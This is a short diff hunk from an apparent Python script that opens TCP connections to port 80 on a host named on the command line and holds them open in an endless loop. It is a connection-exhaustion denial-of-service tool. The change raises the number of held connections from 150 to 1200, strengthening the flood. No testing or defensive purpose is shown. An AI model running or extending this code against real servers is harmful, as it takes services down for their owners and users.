@@ -6,7 +6,7 @@ import time
 
 held: list[socket.socket] = []
 while True:
-    while len(held) < 150:
+    while len(held) < 1200:
         try:
             held.append(socket.create_connection((sys.argv[1], 80), 1))
         except OSError:
